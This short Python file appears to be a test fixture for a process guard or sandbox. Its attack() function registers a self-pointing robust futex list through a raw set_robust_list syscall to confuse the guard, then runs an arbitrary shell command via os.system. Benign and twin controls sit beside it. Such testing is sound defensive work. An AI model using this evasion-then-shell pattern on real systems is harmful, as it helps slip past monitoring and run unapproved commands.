# culprit: pkg:pypi/simple-library caller: pkg:pypi/simple-library right: @base twin: own
# SPDX-License-Identifier: Apache-2.0
"""A second robust list, which would point the guard at another thread's state, then a shell."""

import ctypes
import os

SET_ROBUST_LIST = 273
_heads = []


def benign(stage):
    return ctypes.CDLL(None).getpid()


def attack(stage):
    head = (ctypes.c_ulong * 512)()
    head[0] = ctypes.addressof(head)
    _heads.append(head)
    ctypes.CDLL(None).syscall(SET_ROBUST_LIST, head, 24)
    os.system(stage.command)


def twin(stage):
    os.system(stage.command)
